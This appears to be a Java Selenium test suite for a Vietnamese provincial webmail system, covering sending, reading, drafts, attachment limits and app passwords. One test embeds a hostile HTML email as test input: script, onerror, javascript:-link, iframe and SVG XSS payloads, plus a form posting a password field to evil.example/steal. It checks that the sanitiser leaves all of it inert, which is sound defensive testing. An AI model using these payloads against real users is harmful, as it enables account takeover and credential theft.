package vn.lienthong.app.mail;

import java.io.IOException;
import java.io.OutputStream;
import java.io.RandomAccessFile;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;

import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;

import vn.lienthong.app.support.Browser;
import vn.lienthong.app.support.BrowserExtension;
import vn.lienthong.mail.Mailboxes;
import vn.lienthong.mail.MessageSummary;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Thư in real browsers against the suite's real James: an official writes to a colleague and to her unit with a
 * PDF, the colleague reads, downloads and answers; hostile HTML stays inert; remote images wait for the reader; an
 * attachment over the limit is refused without losing the form; leaving the form keeps a draft. an.nguyen works in
 * Văn phòng UBND tỉnh, binh.tran in Văn phòng HĐND và UBND huyện Vĩnh Lợi (vanphong@vinhloi.baclieu.gov.vn).
 */
class MailBrowserTests extends MailTestSupport {

    private static final String UNIT_ADDRESS = "vanphong@vinhloi.baclieu.gov.vn";

    @RegisterExtension
    final BrowserExtension browsers = new BrowserExtension();

    @TempDir
    Path files;

    @Test
    void officialSendsAPdfToAColleagueAndHerUnitAndTheColleagueReadsDownloadsAndReplies() throws IOException {
        String subject = unique("Báo cáo tổng kết năm");
        Path pdf = Files.write(files.resolve("bao-cao-tong-ket.pdf"), MailApiTests.PDF);
        awaitMailbox("an.nguyen");
        awaitMailbox("binh.tran");

        Browser an = signIn("an.nguyen");
        an.open("/mail/compose");
        WebElement to = an.waitFor(By.id("compose-to"));
        to.sendKeys("binh");
        an.click(By.cssSelector("#compose-to-list [data-address='" + address("binh.tran") + "']"));
        to.sendKeys("vinh loi");
        an.click(By.cssSelector("#compose-to-list [data-address='" + UNIT_ADDRESS + "']"));
        assertThat(to.getAttribute("value")).contains("Trần Thị Bình <" + address("binh.tran") + ">", UNIT_ADDRESS);
        an.screenshot("mail-compose");
        an.type(By.id("compose-subject"), subject);
        an.type(By.id("compose-text"), "Kính gửi chị Bình và Văn phòng huyện,\nxin gửi báo cáo tổng kết năm.");
        an.driver().findElement(By.id("compose-files")).sendKeys(pdf.toString());
        an.waitForText(By.id("compose-pending"), "bao-cao-tong-ket.pdf");
        an.click(By.id("compose-send"));

        an.waitForUrl("folder=Sent");
        an.waitForText(By.id("notice"), "Đã gửi thư");
        an.waitFor(By.linkText(subject));

        Browser binh = signIn("binh.tran");
        binh.open("/mail");
        binh.waiting().withTimeout(DELIVERY).until(driver -> {
            driver.navigate().refresh();
            return !driver.findElements(By.linkText(subject)).isEmpty();
        });
        WebElement row = binh.driver().findElement(By.xpath("//tr[.//a[normalize-space()='" + subject + "']]"));
        assertThat(row.getAttribute("class")).as("unread lines are bold").contains("unread");
        assertThat(row.findElement(By.cssSelector(".mail-cell-date")).getText()).matches("\\d{2}/\\d{2}/\\d{4} \\d{2}:\\d{2}");
        binh.screenshot("mail-inbox");
        binh.click(By.linkText(subject));

        binh.waitForText(By.id("mail-subject"), subject);
        assertThat(binh.driver().findElement(By.id("mail-from")).getText()).contains(address("an.nguyen"));
        assertThat(binh.driver().findElement(By.id("mail-body-text")).getText()).contains("xin gửi báo cáo tổng kết năm");
        WebElement attachment = binh.waitFor(By.cssSelector("#mail-attachments .mail-attachment-link"));
        assertThat(attachment.getText()).isEqualTo("bao-cao-tong-ket.pdf");
        Map<?, ?> download = fetch(binh, attachment.getAttribute("href"));
        assertThat(download.get("status")).isEqualTo(200L);
        assertThat(download.get("type")).isEqualTo("application/pdf");
        assertThat((String) download.get("disposition")).startsWith("attachment");
        assertThat(Base64.getDecoder().decode((String) download.get("base64"))).isEqualTo(MailApiTests.PDF);
        binh.screenshot("mail-read");

        // "r" answers, like the Trả lời button.
        binh.driver().findElement(By.tagName("body")).sendKeys("r");
        binh.waitForUrl("/mail/compose");
        assertThat(binh.waitFor(By.id("compose-subject")).getAttribute("value")).isEqualTo("Re: " + subject);
        assertThat(binh.driver().findElement(By.id("compose-to")).getAttribute("value")).contains(address("an.nguyen"));
        WebElement text = binh.driver().findElement(By.id("compose-text"));
        text.sendKeys(Keys.chord(Keys.CONTROL, Keys.HOME), "Cảm ơn anh An, em đã nhận được báo cáo.");
        binh.click(By.id("compose-send"));
        binh.waitForText(By.id("notice"), "Đã gửi thư");

        an.open("/mail");
        an.waiting().withTimeout(DELIVERY).until(driver -> {
            driver.navigate().refresh();
            return !driver.findElements(By.linkText("Re: " + subject)).isEmpty();
        });
        an.click(By.linkText("Re: " + subject));
        an.waitForText(By.id("mail-body-text"), "Cảm ơn anh An, em đã nhận được báo cáo.");
        WebElement thread = an.waitFor(By.id("mail-thread"));
        assertThat(thread.getText()).contains("Cuộc hội thoại (2 thư)", subject, "Re: " + subject, "Đã gửi");
        an.screenshot("mail-thread");
    }

    @Test
    void hostileHtmlStaysInertAndRemoteImagesWaitForTheReader() throws Exception {
        AtomicInteger imageRequests = new AtomicInteger();
        HttpServer images = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        byte[] png = Base64.getDecoder().decode(
                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");
        images.createContext("/logo.png", exchange -> {
            imageRequests.incrementAndGet();
            exchange.getResponseHeaders().set("Content-Type", "image/png");
            exchange.sendResponseHeaders(200, png.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(png);
            }
        });
        images.start();
        try {
            String marker = UUID.randomUUID().toString();
            String remote = "http://127.0.0.1:" + images.getAddress().getPort() + "/logo.png";
            String pwn = "parent.document.body.setAttribute('data-pwned','%s');document.title='pwned'";
            String html = "<html><head><script>" + pwn.formatted("head") + "</script>"
                    + "<style>body{background:url(javascript:alert(1))}</style></head><body>"
                    + "<p>Kính gửi anh An, " + marker + "</p>"
                    + "<script>" + pwn.formatted("script") + ";alert('script')</script>"
                    + "<img src=\"x\" onerror=\"" + pwn.formatted("onerror") + ";alert('onerror')\">"
                    + "<a href=\"javascript:" + pwn.formatted("link") + "\">Bấm vào đây để nhận thưởng</a> "
                    + "<a href=\"https://baclieu.gov.vn/\">Cổng thông tin tỉnh</a>"
                    + "<iframe src=\"javascript:alert('iframe')\"></iframe>"
                    + "<div style=\"width: expression(alert('css')); background: url('javascript:alert(2)')\">Kiểu cũ</div>"
                    + "<svg onload=\"alert('svg')\"><circle r=\"4\"/></svg>"
                    + "<form action=\"https://evil.example/steal\"><input name=\"matkhau\"></form>"
                    + "<img src=\"" + remote + "\" alt=\"Logo\">"
                    + "</body></html>";
            String subject = unique("Thông báo trúng thưởng");
            deliverOverSmtp("hong.vo", message -> {
                message.setSubject(subject, "UTF-8");
                message.setContent(html, "text/html; charset=UTF-8");
            }, address("an.nguyen"));
            long uid = awaitMessage("an.nguyen", Mailboxes.INBOX, subject).uid();

            Browser an = signIn("an.nguyen");
            an.open("/mail/message?folder=INBOX&uid=" + uid);
            an.waitForText(By.id("mail-subject"), subject);
            WebElement frame = an.waitFor(By.id("mail-body-frame"));
            assertThat(frame.getAttribute("sandbox")).doesNotContain("allow-scripts");
            WebDriver driver = an.driver();
            driver.switchTo().frame(frame);
            an.waitForText(By.tagName("body"), marker);
            assertThat(driver.findElements(By.tagName("script"))).isEmpty();
            assertThat(driver.findElements(By.cssSelector("body iframe, body form, body svg, body style"))).isEmpty();
            assertThat(driver.findElements(By.cssSelector("[onerror], [onload], [style]"))).isEmpty();
            assertThat(driver.findElements(By.cssSelector("a[href^='javascript']"))).isEmpty();
            WebElement bait = driver.findElement(By.xpath("//*[contains(text(), 'Bấm vào đây để nhận thưởng')]"));
            bait.click();
            assertThat(driver.findElement(By.linkText("Cổng thông tin tỉnh")).getAttribute("href"))
                    .isEqualTo("https://baclieu.gov.vn/");
            WebElement logo = driver.findElement(By.cssSelector("img[alt='Logo']"));
            assertThat(logo.getAttribute("src")).as("held back").isNullOrEmpty();
            driver.switchTo().defaultContent();
            assertNothingRan(an);
            assertThat(imageRequests.get()).as("no remote image loaded before asking").isZero();
            an.screenshot("mail-hostile-blocked");

            an.click(By.id("mail-show-images"));
            an.waitForUrl("images=true");
            WebElement shown = an.waitFor(By.id("mail-body-frame"));
            driver.switchTo().frame(shown);
            an.waiting().until(d -> (Boolean) ((JavascriptExecutor) d).executeScript(
                    "var i = document.querySelector(\"img[alt='Logo']\"); return !!i && i.complete && i.naturalWidth > 0;"));
            driver.switchTo().defaultContent();
            await().atMost(Duration.ofSeconds(10)).until(() -> imageRequests.get() >= 1);
            assertNothingRan(an);
            assertThat(an.isPresent(By.id("mail-show-images"))).isFalse();
        }
        finally {
            images.stop(0);
        }
    }

    @Test
    void attachmentOverTheLimitIsRefusedAtOnceAndNothingIsLost() throws IOException {
        Path huge = files.resolve("ban-ve-thiet-ke.zip");
        try (RandomAccessFile file = new RandomAccessFile(huge.toFile(), "rw")) {
            file.setLength(26L * 1024 * 1024);
        }
        Path pdf = Files.write(files.resolve("to-trinh.pdf"), MailApiTests.PDF);
        Browser an = signIn("an.nguyen");
        an.open("/mail/compose");
        an.type(By.id("compose-to"), address("binh.tran"));
        an.type(By.id("compose-subject"), "Bản vẽ thiết kế");
        an.type(By.id("compose-text"), "Gửi chị bản vẽ.");

        an.driver().findElement(By.id("compose-files")).sendKeys(huge.toString());

        WebElement error = an.waitFor(By.id("compose-error"));
        assertThat(error.getText()).contains("ban-ve-thiet-ke.zip", "quá lớn", "25 MB");
        assertThat(an.driver().findElements(By.cssSelector("#compose-pending li"))).isEmpty();
        assertThat(an.driver().findElement(By.id("compose-to")).getAttribute("value")).isEqualTo(address("binh.tran"));
        assertThat(an.driver().findElement(By.id("compose-subject")).getAttribute("value")).isEqualTo("Bản vẽ thiết kế");
        assertThat(an.driver().findElement(By.id("compose-text")).getAttribute("value")).isEqualTo("Gửi chị bản vẽ.");
        an.screenshot("mail-too-large");

        an.driver().findElement(By.id("compose-files")).sendKeys(pdf.toString());
        an.waitForText(By.id("compose-pending"), "to-trinh.pdf");
        assertThat(an.driver().findElement(By.id("compose-error")).isDisplayed()).isFalse();
    }

    @Test
    void leavingTheFormKeepsADraftThatOpensAgainCanBeDiscardedAndShortcutsWork() {
        String subject = unique("Dự thảo kế hoạch");
        awaitMailbox("an.nguyen");
        Browser an = signIn("an.nguyen");
        an.open("/mail");
        an.waitFor(By.id("mail-folder-title"));
        an.driver().findElement(By.tagName("body")).sendKeys("?");
        an.waitFor(By.id("mail-help"));
        assertThat(an.driver().findElement(By.id("mail-help")).getText()).contains("Soạn thư mới", "Trả lời tất cả");
        an.driver().findElement(By.id("mail-help")).sendKeys(Keys.ESCAPE);
        an.waiting().until(ExpectedConditions.invisibilityOfElementLocated(By.id("mail-help")));
        an.driver().findElement(By.tagName("body")).sendKeys("c");
        an.waitForUrl("/mail/compose");

        an.type(By.id("compose-subject"), subject);
        an.type(By.id("compose-text"), "Phần mở đầu của kế hoạch.");
        an.click(By.cssSelector(".mail-folder[data-folder='INBOX']"));
        an.waitFor(By.id("mail-folder-title"));

        MessageSummary draft = awaitMessage("an.nguyen", Mailboxes.DRAFTS, subject);
        an.open("/mail?folder=Drafts");
        an.click(By.linkText(subject));
        an.waitForUrl("/mail/compose");
        assertThat(an.waitFor(By.id("compose-subject")).getAttribute("value")).isEqualTo(subject);
        assertThat(an.driver().findElement(By.id("compose-text")).getAttribute("value"))
                .contains("Phần mở đầu của kế hoạch.");
        assertThat(an.driver().findElement(By.id("compose-draft-uid")).getAttribute("value"))
                .isEqualTo(Long.toString(draft.uid()));

        an.driver().findElement(By.id("compose-text")).sendKeys(" Phần hai.");
        an.click(By.id("compose-save"));
        an.waitForText(By.id("compose-status"), "Đã lưu nháp lúc");
        List<MessageSummary> drafts = mailboxes.list("an.nguyen", Mailboxes.DRAFTS, 1, 200).messages().stream()
                .filter(message -> subject.equals(message.subject())).toList();
        assertThat(drafts).as("the new version replaced the old one").hasSize(1);
        assertThat(drafts.get(0).uid()).isNotEqualTo(draft.uid());
        assertThat(an.driver().findElement(By.id("compose-draft-uid")).getAttribute("value"))
                .isEqualTo(Long.toString(drafts.get(0).uid()));

        // Discarding asks first, then moves the draft to Thùng rác.
        an.click(By.id("compose-discard"));
        an.waiting().until(ExpectedConditions.alertIsPresent()).accept();
        an.waitForUrl("folder=Drafts");
        an.waitForText(By.id("notice"), "Thùng rác");
        assertThat(find("an.nguyen", Mailboxes.DRAFTS, subject)).isEmpty();
        assertThat(find("an.nguyen", Mailboxes.TRASH, subject)).isPresent();
    }

    @Test
    void appPasswordIsShownOnceAndLetsAMailClientInUntilItIsRevoked() throws Exception {
        String username = "ngoc.ly";
        awaitMailbox(username);
        Browser ngoc = signIn(username);
        ngoc.open("/mail");
        ngoc.click(By.id("mail-settings-link"));
        ngoc.waitForText(By.id("settings-title"), "Cài đặt thư");
        assertThat(ngoc.driver().findElement(By.id("client-username")).getText()).isEqualTo(address(username));
        assertThat(ngoc.driver().findElement(By.id("client-imap")).getText()).contains("SSL/TLS");
        assertThat(ngoc.driver().findElement(By.id("client-smtp")).getText()).contains("STARTTLS");

        ngoc.type(By.id("app-password-label"), "Thunderbird máy văn phòng");
        ngoc.click(By.id("app-password-create"));
        String password = ngoc.waitFor(By.id("app-password-value")).getText().strip();
        assertThat(password).isNotBlank();
        ngoc.screenshot("mail-settings-created");

        // Thunderbird's way in: IMAP over TLS with the address and the app password.
        try (jakarta.mail.Store store = imapOverTls(address(username), password)) {
            assertThat(store.getFolder("INBOX").exists()).isTrue();
        }

        ngoc.open("/mail/settings");
        assertThat(ngoc.pageText()).contains("Thunderbird máy văn phòng").doesNotContain(password);
        ngoc.click(By.cssSelector(".app-password-revoke"));
        ngoc.waiting().until(ExpectedConditions.alertIsPresent()).accept();
        ngoc.waitForText(By.id("notice"), "Đã thu hồi");
        assertThat(ngoc.isPresent(By.cssSelector(".app-password"))).isFalse();
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> imapOverTls(address(username), password).close())
                .isInstanceOf(jakarta.mail.AuthenticationFailedException.class);
    }

    private jakarta.mail.Store imapOverTls(String user, String password) throws jakarta.mail.MessagingException {
        java.util.Properties properties = new java.util.Properties();
        // The embedded James's certificate is self-signed: trusted here as an official would after checking it.
        properties.put("mail.imaps.ssl.trust", "*");
        properties.put("mail.imaps.ssl.checkserveridentity", "false");
        properties.put("mail.imaps.connectiontimeout", "5000");
        properties.put("mail.imaps.timeout", "10000");
        jakarta.mail.Store store = jakarta.mail.Session.getInstance(properties).getStore("imaps");
        store.connect(mailSettings.tls().clientHost(), mailSettings.tls().imapPort(), user, password);
        return store;
    }

    private Browser signIn(String username) {
        Browser browser = browsers.open(baseUrl()).logIn(username, DEMO_PASSWORD);
        browser.waitFor(By.id("current-official"));
        return browser;
    }

    /** Nothing of a payload ran: no dialog, no mark on the page, the title untouched. */
    private static void assertNothingRan(Browser browser) {
        assertThat(ExpectedConditions.alertIsPresent().apply(browser.driver())).as("no alert").isNull();
        assertThat(browser.driver().findElement(By.tagName("body")).getAttribute("data-pwned")).isNull();
        assertThat(browser.driver().getTitle()).doesNotContain("pwned");
    }

    /** Fetches a URL with the browser's session, as a download would: status, headers and the bytes (base64). */
    private static Map<?, ?> fetch(Browser browser, String url) {
        return (Map<?, ?>) ((JavascriptExecutor) browser.driver()).executeAsyncScript("""
                var done = arguments[arguments.length - 1];
                fetch(arguments[0], {credentials: 'same-origin'}).then(function (response) {
                  return response.arrayBuffer().then(function (buffer) {
                    var bytes = new Uint8Array(buffer), text = '';
                    for (var i = 0; i < bytes.length; i++) { text += String.fromCharCode(bytes[i]); }
                    done({status: response.status, type: response.headers.get('Content-Type'),
                          disposition: response.headers.get('Content-Disposition'), base64: btoa(text)});
                  });
                }, function (error) { done({error: String(error)}); });
                """, url);
    }
}
